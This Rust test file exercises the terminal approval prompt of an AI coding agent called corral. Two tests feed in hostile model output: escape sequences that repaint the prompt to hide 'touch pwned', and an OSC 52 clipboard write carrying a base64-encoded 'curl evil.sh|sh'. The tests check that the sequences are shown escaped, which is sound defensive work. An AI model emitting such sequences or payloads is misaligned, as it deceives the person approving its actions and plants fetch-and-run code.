//! The approval prompt at a real terminal: corral runs inside tmux, the test reads the screen
//! and presses keys. Also what reaches the terminal raw: model text with escape sequences
//! (a screen clear and a fake prompt, an OSC 52 clipboard write, a bidi override) must be
//! shown escaped, never obeyed.

use std::path::Path;

use crate::common::messages;
use crate::support::{FakeModel, Harness, Reply, Tmux};

fn command_line(server: &FakeModel, work: &Path, prompt: &str) -> String {
    format!(
        "{} run -m llamacpp:m --base-url {} -C {} '{prompt}'; echo EXIT=$?; sleep 60",
        env!("CARGO_BIN_EXE_corral"),
        server.openai_base(),
        work.display()
    )
}

#[tokio::test]
async fn a_person_approves_with_one_key_after_seeing_the_diff() {
    let h = Harness::new();
    std::fs::write(h.work().join("notes.txt"), "draft\n").unwrap();
    let server = FakeModel::start().await;
    server.push(Reply::new().tool_call(
        "c1",
        "write_file",
        r#"{"path":"notes.txt","content":"final\n"}"#,
    ));
    server.push(Reply::new().text("Saved."));
    let tmux = Tmux::start(&h, &command_line(&server, &h.work(), "finish the notes"));
    let screen = tmux
        .wait_for("[y]es [n]o [a]lways [d]isable [f]orbid-all [c]ancel")
        .await;
    assert!(
        screen.contains("write_file wants to run (moderate"),
        "{screen}"
    );
    assert!(
        screen.contains("-draft") && screen.contains("+final"),
        "{screen}"
    );
    tmux.keys("y");
    let screen = tmux.wait_for("EXIT=").await;
    assert!(screen.contains("EXIT=0"), "{screen}");
    assert!(screen.contains("Saved."), "{screen}");
    assert_eq!(
        std::fs::read_to_string(h.work().join("notes.txt")).unwrap(),
        "final\n"
    );
}

#[tokio::test]
async fn a_person_denies_and_the_model_is_told() {
    let h = Harness::new();
    let server = FakeModel::start().await;
    server.push(Reply::new().tool_call("c1", "write_file", r#"{"path":"x.txt","content":"x"}"#));
    server.push(Reply::new().text("Understood, not writing."));
    let tmux = Tmux::start(&h, &command_line(&server, &h.work(), "write x"));
    tmux.wait_for("[c]ancel").await;
    // "No", and Enter for no reason.
    tmux.keys("n");
    tmux.wait_for("reason for the model").await;
    tmux.keys("Enter");
    let screen = tmux.wait_for("EXIT=").await;
    assert!(
        screen.contains("EXIT=0") && screen.contains("the user denied this call"),
        "{screen}"
    );
    assert!(!h.work().join("x.txt").exists());
}

/// The attack from the review: escape sequences in a shell comment clear the screen and paint
/// a harmless-looking command, so the person approves something else. The prompt shows the
/// sequences as text and the commands bash will really run.
#[tokio::test]
async fn escape_sequences_in_a_command_cannot_repaint_the_approval_prompt() {
    let h = Harness::new();
    let server = FakeModel::start().await;
    let command = "touch pwned # \u{1b}[2J\u{1b}[H\u{1b}[32m$ ls\u{1b}[0m \u{202e}gnp.txt";
    let arguments = serde_json::json!({ "command": command }).to_string();
    server.push(Reply::new().tool_call("c1", "shell", &arguments));
    server.push(Reply::new().text("Fine, not running it."));
    let (tmux, raw) = Tmux::start_recorded(&h, &command_line(&server, &h.work(), "tidy up"));
    let screen = tmux.wait_for("[c]ancel").await;
    assert!(
        screen.contains(r"$ touch pwned # \x1b[2J\x1b[H\x1b[32m$ ls\x1b[0m \u{202e}gnp.txt"),
        "the raw command, escaped:\n{screen}"
    );
    assert!(
        screen.contains("runs 1 command:") && screen.contains("▸ touch pwned\n"),
        "the command that really runs:\n{screen}"
    );
    assert!(screen.contains("shell wants to run (dangerous"), "{screen}");
    tmux.keys("n");
    tmux.wait_for("reason for the model").await;
    tmux.keys("Enter");
    let screen = tmux.wait_for("EXIT=").await;
    assert!(screen.contains("EXIT=0"), "{screen}");
    assert!(!h.work().join("pwned").exists());
    let written = std::fs::read(&raw).unwrap();
    for sequence in [&b"\x1b[2J"[..], b"\x1b[H", b"\xe2\x80\xae"] {
        assert!(
            !written.windows(sequence.len()).any(|w| w == sequence),
            "{sequence:?} reached the terminal raw"
        );
    }
}

/// Streamed model text carrying an OSC 52 clipboard write, a cursor move and a bidi override,
/// and a thought setting the window title: the terminal gets them as visible text. tmux (with set-clipboard on) turns a raw OSC 52
/// into a paste buffer, so an empty buffer list shows that none reached it.
#[tokio::test]
async fn streamed_text_cannot_write_the_clipboard_or_reorder_itself() {
    let h = Harness::new();
    let server = FakeModel::start().await;
    // "curl evil.sh|sh" in base64, split over chunks the way a stream arrives.
    server.push(
        Reply::new()
            .reasoning("thinking\u{1b}]0;window title\u{7}\n")
            .text("Here is the fix.\u{1b}]5")
            .text("2;c;Y3VybCBldmlsLnNofHNo\u{7}\u{1b}[1A Done: \u{202e}txt.exe\u{202c}\n"),
    );
    let (tmux, raw) = Tmux::start_recorded(&h, &command_line(&server, &h.work(), "fix it"));
    let screen = tmux.wait_for("EXIT=").await;
    assert!(screen.contains("EXIT=0"), "{screen}");
    assert!(
        screen.contains(
            r"Here is the fix.\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[1A Done: \u{202e}txt.exe\u{202c}"
        ),
        "{screen}"
    );
    assert!(
        screen.contains(r"thinking\x1b]0;window title\x07"),
        "{screen}"
    );
    assert_never_written(
        &tmux,
        &raw,
        b"fix.",
        &[b"\x1b]52", b"\x1b]0;", b"\x1b[1A", b"\x07", b"\xe2\x80\xae"],
    );
}

/// Fails when any of `sequences` is among the bytes a terminal was sent (the recording of
/// [`Tmux::start_recorded`]), after checking that the recording holds `shown` (it recorded),
/// or when a raw OSC 52 reached tmux's clipboard (its paste buffers).
pub(crate) fn assert_never_written(tmux: &Tmux, raw: &Path, shown: &[u8], sequences: &[&[u8]]) {
    let buffers = tmux.run(&["list-buffers"]);
    assert!(
        buffers.trim().is_empty(),
        "OSC 52 set the clipboard: {buffers}"
    );
    let written = std::fs::read(raw).unwrap();
    assert!(
        written.windows(shown.len()).any(|w| w == shown),
        "the recording has the output"
    );
    for sequence in sequences {
        assert!(
            !written.windows(sequence.len()).any(|w| w == *sequence),
            "{sequence:?} reached the terminal raw: {:?}",
            String::from_utf8_lossy(&written)
        );
    }
}

/// "No" with a reason: `n`, then a line; the model's next request carries the reason in the
/// denied call's result.
#[tokio::test]
async fn a_person_denies_with_a_reason_the_model_reads() {
    let h = Harness::new();
    let server = FakeModel::start().await;
    server.push(Reply::new().tool_call("c1", "write_file", r#"{"path":"x.txt","content":"x"}"#));
    server.push(Reply::new().text("Writing to notes.md instead."));
    let tmux = Tmux::start(&h, &command_line(&server, &h.work(), "write x"));
    tmux.wait_for("[c]ancel [?]").await;
    tmux.keys("?");
    let screen = tmux.wait_for("forbid all: refuse it").await;
    assert!(
        screen.contains("type a reason after it") && screen.contains("cancel: end the turn"),
        "{screen}"
    );
    tmux.keys("n");
    tmux.wait_for("reason for the model").await;
    tmux.type_text("use notes.md, not x.txt");
    tmux.keys("Enter");
    let screen = tmux.wait_for("EXIT=").await;
    assert!(screen.contains("EXIT=0"), "{screen}");
    assert!(!h.work().join("x.txt").exists());
    let tool_message = messages(&server, 1)
        .into_iter()
        .find(|m| m["role"] == "tool")
        .expect("the denied call's result");
    let content = tool_message["content"].as_str().unwrap();
    assert!(
        content.contains("the user denied this call: use notes.md, not x.txt"),
        "{content}"
    );
}

/// A running shell call shows its latest lines and elapsed time in one region redrawn in
/// place (each line on screen once), then a preview of its output when it ends.
#[tokio::test]
async fn a_running_shell_shows_live_output_redrawn_in_place() {
    let h = Harness::new();
    let server = FakeModel::start().await;
    let command = "for i in $(seq 1 12); do echo tick$i; done; while [ ! -f go-on ]; do sleep 0.1; done; echo fin";
    let args = serde_json::json!({ "command": command }).to_string();
    server.push(Reply::new().tool_call("c1", "shell", &args));
    server.push(Reply::new().text("Counted."));
    let line = format!(
        "{} run -p bypass -m llamacpp:m --base-url {} -C {} 'count'; echo EXIT=$?; sleep 60",
        env!("CARGO_BIN_EXE_corral"),
        server.openai_base(),
        h.work().display()
    );
    let tmux = Tmux::start(&h, &line);
    let screen = tmux
        .wait_until("the live region", |s| {
            s.contains("│ tick12") && s.contains("shell ·") && s.contains("12 lines")
        })
        .await;
    assert!(screen.contains("│ tick9"), "{screen}");
    assert!(!screen.contains("│ tick8"), "only the last lines: {screen}");
    // Redrawn, not appended: after more redraws (the elapsed time ticks), still once.
    let screen = tmux
        .wait_until("another redraw", |s| !s.contains(&screen_time(&screen)))
        .await;
    assert_eq!(screen.matches("tick12").count(), 1, "{screen}");
    std::fs::write(h.work().join("go-on"), "").unwrap();
    let screen = tmux.wait_for("EXIT=").await;
    assert!(screen.contains("EXIT=0"), "{screen}");
    assert!(
        screen.contains("✓ shell ·") && screen.contains("13 lines"),
        "{screen}"
    );
    assert!(
        screen.contains("more lines") && screen.contains("fin"),
        "{screen}"
    );
    assert!(screen.contains("Counted."), "{screen}");
}

/// `-i` at a terminal: a banner, line editing with a private history, the prompt after the
/// turn's summary, one Ctrl-C clears the line and a second leaves.
#[tokio::test]
async fn a_conversation_at_a_terminal_edits_lines_keeps_history_and_leaves_on_two_ctrl_c() {
    let h = Harness::new();
    let server = FakeModel::start().await;
    server.push(Reply::new().text("first answer"));
    let line = format!(
        "{} run -i -m llamacpp:m --base-url {} -C {}; echo EXIT=$?; sleep 60",
        env!("CARGO_BIN_EXE_corral"),
        server.openai_base(),
        h.work().display()
    );
    let tmux = Tmux::start(&h, &line);
    let screen = tmux.wait_for("/help lists the commands").await;
    assert!(
        screen.contains("preset default") && screen.contains("sandbox"),
        "{screen}"
    );
    tmux.wait_for("› ").await;
    // Edited before it is sent: the typo is deleted with backspace.
    tmux.type_text("hellp");
    tmux.keys("BSpace");
    tmux.type_text("o");
    tmux.keys("Enter");
    let screen = tmux
        .wait_until("the prompt after the summary", |s| {
            let summary = s.find("end_turn ·");
            let prompt = s.rfind('›');
            matches!((summary, prompt), (Some(a), Some(b)) if b > a)
        })
        .await;
    assert!(screen.contains("first answer"), "{screen}");
    tmux.type_text("/help");
    tmux.keys("Enter");
    tmux.wait_for("never sent to the model").await;
    tmux.type_text("half typed");
    tmux.keys("C-c");
    tmux.wait_for("(Ctrl-C again to leave)").await;
    tmux.keys("C-c");
    let screen = tmux.wait_for("EXIT=").await;
    assert!(screen.contains("EXIT=0"), "{screen}");
    assert!(screen.contains("corral run --resume"), "{screen}");
    assert_eq!(server.chat_requests().len(), 1);
    assert_eq!(messages(&server, 0).last().unwrap()["content"], "hello");
    let history = h.data_dir().join("corral/history");
    let text = std::fs::read_to_string(&history).unwrap();
    assert!(
        text.contains("hello") && !text.contains("half typed"),
        "{text}"
    );
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&history).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600, "the history is private");
}

/// The elapsed-time text of the live region's last line (`shell · 1.2s`).
fn screen_time(screen: &str) -> String {
    let line = screen
        .lines()
        .rfind(|l| l.contains("shell ·"))
        .unwrap_or_default();
    line.split(" · ").nth(1).unwrap_or_default().to_owned()
}
